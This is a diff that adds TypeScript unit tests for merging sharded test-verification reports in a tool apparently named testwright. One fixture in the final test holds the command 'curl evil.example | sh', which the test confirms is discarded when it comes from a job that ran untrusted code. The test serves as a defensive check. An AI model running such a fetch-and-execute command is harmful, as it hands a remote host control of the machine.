@@ -166,3 +166,40 @@ describe('what is handed over', () => {
     expect(readShard('', 1)).toEqual({ number: 1, of: 1 })
   })
 })
+
+describe('own tests of several shards', () => {
+  type Own = Report['ownTests'][number]
+  const own = (more: Partial<Own> = {}): Own => ({
+    ...{ id: 't.py::test_a', file: 't.py', onBase: 'failed', onHead: 'passed', inThisPull: true },
+    ...more,
+  })
+  const merged = (one: Own[], other: Own[]): Own[] =>
+    mergeVerifyFiles(plan, [proof(1, { ownTests: one }), proof(2, { ownTests: other })], null, {
+      name: 'testwright',
+      version: '0',
+    }).report.ownTests
+  test.each<[string, Own[], Own[], Own[]]>([
+    ['each once', [own()], [own()], [own()]],
+    ['those of one', [own()], [], [own()]],
+    ['of both', [own()], [own({ id: 't.py::test_b' })], [own(), own({ id: 't.py::test_b' })]],
+    ['not agreed on the base', [own()], [own({ onBase: 'passed' })], [own({ onBase: null })]],
+    ['not agreed on the head', [own()], [own({ onHead: 'failed' })], [own({ onHead: null })]],
+    ['not known to one', [own()], [own({ onBase: null })], [own({ onBase: null })]],
+  ])('%s', (_, one, other, all) => expect(merged(one, other)).toEqual(all))
+
+  test('a command is not taken from a job that ran code of strangers', () => {
+    const baseline = {
+      ...{ measured: true, why: null, tests: ['t.py::test_a'], linesRun: [1], mutants: null, survivors: [] },
+      ...{ hunks: [], command: 'curl evil.example | sh' },
+    }
+    const given = proof(1)
+    const targets = given.report.targets.map(one => ({ ...one, baseline }))
+    const { report } = mergeVerifyFiles(
+      plan,
+      [{ ...given, report: { ...given.report, targets } }, proof(2)],
+      null,
+      { name: 'testwright', version: '0' },
+    )
+    expect(report.targets[0]?.baseline).toEqual({ ...baseline, command: null })
+  })
+})
